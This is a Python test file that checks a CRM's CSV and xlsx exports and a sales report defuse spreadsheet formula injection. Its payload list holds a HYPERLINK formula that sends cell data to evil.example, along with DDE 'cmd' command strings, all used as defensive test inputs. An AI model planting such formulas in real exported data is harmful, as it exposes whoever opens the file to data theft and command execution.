"""Exports never carry a live spreadsheet formula: every CSV and xlsx cell that starts one is text.

The files are opened the way a spreadsheet would read them: CSV with the
``csv`` module, xlsx with openpyxl, checking each stored cell's type and value.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from crm_core.models import Customer, Order
import factories

#: What an attacker types into a name, a note, a caller id or an imported CSV.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]


def _customers(dbs, marker: str) -> list[Customer]:
    rows = []
    for i, text in enumerate(HOSTILE):
        customer = factories.make_customer(dbs, name=f"{text} {marker}{i}")
        rows.append(customer)
    dbs.commit()
    return rows


def _formula_like(text: str) -> bool:
    """Text a spreadsheet would run: a formula start that is not simply a signed number."""
    plain_number = text.lstrip("+-").replace(".", "", 1).isdigit()
    return text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")) and not plain_number


def test_customers_csv_export_writes_hostile_names_as_text(as_role, dbs) -> None:
    marker = f"csvinj{factories.next_serial()}-"
    _customers(dbs, marker)
    response = as_role("admin").client.get(f"/admin/customers/export/csv/?search={marker}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    names = [cell for row in rows[1:] for cell in row if marker in cell]
    assert sorted(n[1:].split(" " + marker)[0] for n in names) == sorted(HOSTILE)
    assert all(n.startswith("'") for n in names)
    for row in rows[1:]:
        for cell in row:
            assert not _formula_like(cell), (cell, row)


def test_customers_xlsx_export_stores_hostile_names_as_strings_never_formulas(as_role, dbs) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    marker = f"xlsxinj{factories.next_serial()}-"
    _customers(dbs, marker)
    response = as_role("admin").client.get(f"/admin/customers/export/xlsx/?search={marker}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [str(c.value) for c in cells if marker in str(c.value)]
    # XML keeps no bare carriage return: the xlsx reads back "\r" as "\n"
    assert sorted(n[1:].split(" " + marker)[0] for n in names) == sorted(h.replace("\r", "\n") for h in HOSTILE)
    assert all(n.startswith("'") for n in names)
    for cell in cells:
        assert not (isinstance(cell.value, str) and _formula_like(cell.value)), cell.value


def test_plain_numbers_stay_numbers_in_an_export() -> None:
    from admin.exports import spreadsheet_safe

    assert spreadsheet_safe("-12.50") == "-12.50"
    assert spreadsheet_safe("+8613800138000") == "+8613800138000"
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("-1+1") == "'-1+1"


def test_report_csv_neutralises_a_hostile_media_source(as_role, probe_engine, app, monkeypatch) -> None:
    """An agent types the media source on the desk; the sales report exports it."""
    from sqlalchemy.orm import Session

    monkeypatch.setitem(app.config, "REPORTS_UTC_OFFSET_MINUTES", 0)
    day = dt.date(2023, 3, 9)
    serial = factories.next_serial()
    with Session(probe_engine, expire_on_commit=False) as s:
        customer = factories.make_customer(s)
        s.add(Order(number=f"{6_100_000_000 + serial}", customer_id=customer.id, status="ordered",
                    media_source='=HYPERLINK("http://evil.example")', subtotal=Decimal("5"), total=Decimal("5"),
                    created_at=dt.datetime(day.year, day.month, day.day, 10, tzinfo=dt.timezone.utc)))
        s.commit()
    response = as_role("admin").client.get(f"/admin/reports/csv/sales_by_media?start={day}&end={day}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\")" in cells
    assert not any(_formula_like(c) for c in cells)
